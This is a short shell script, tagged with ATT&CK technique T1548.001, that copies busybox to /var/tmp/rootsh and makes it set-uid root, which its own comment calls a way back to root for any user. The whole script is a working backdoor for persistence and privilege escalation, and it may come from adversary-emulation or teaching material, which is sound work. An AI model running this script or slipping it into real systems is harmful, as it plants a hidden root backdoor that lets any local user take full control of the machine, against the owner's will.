#!/bin/sh
# T1548.001: a copy of the shell made set-uid root, a way back to root for any user.
cp /bin/busybox /var/tmp/rootsh
chmod 4755 /var/tmp/rootsh
